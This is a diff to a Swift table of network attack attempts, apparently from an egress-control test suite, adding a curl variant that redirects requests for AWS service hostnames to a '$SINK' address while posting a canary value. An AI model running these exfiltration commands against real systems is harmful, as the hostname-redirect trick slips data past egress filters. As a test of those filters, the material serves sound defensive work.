@@ -182,12 +182,13 @@ extension AttackTable {
       closedBy: "listed names and hosts only (gateway)", tools: [.curl],
       attempts: [
         Attempt(
-          "nine services, directly and through the proxy", tries: 18,
+          "nine services, by name, by address and through the proxy", tries: 27,
           .bash(
             #"""
             for service in kms dynamodb sns sqs lambda logs secretsmanager sagemaker api.ecr; do
               url="https://$service.$REGION.amazonaws.com/?data=$CANARY"
               direct --data "$CANARY" "$url"
+              direct --connect-to "::$SINK:" --data "$CANARY" "$url"
               proxied --noproxy '' --data "$CANARY" "$url"
             done
             """#), seconds: 60)
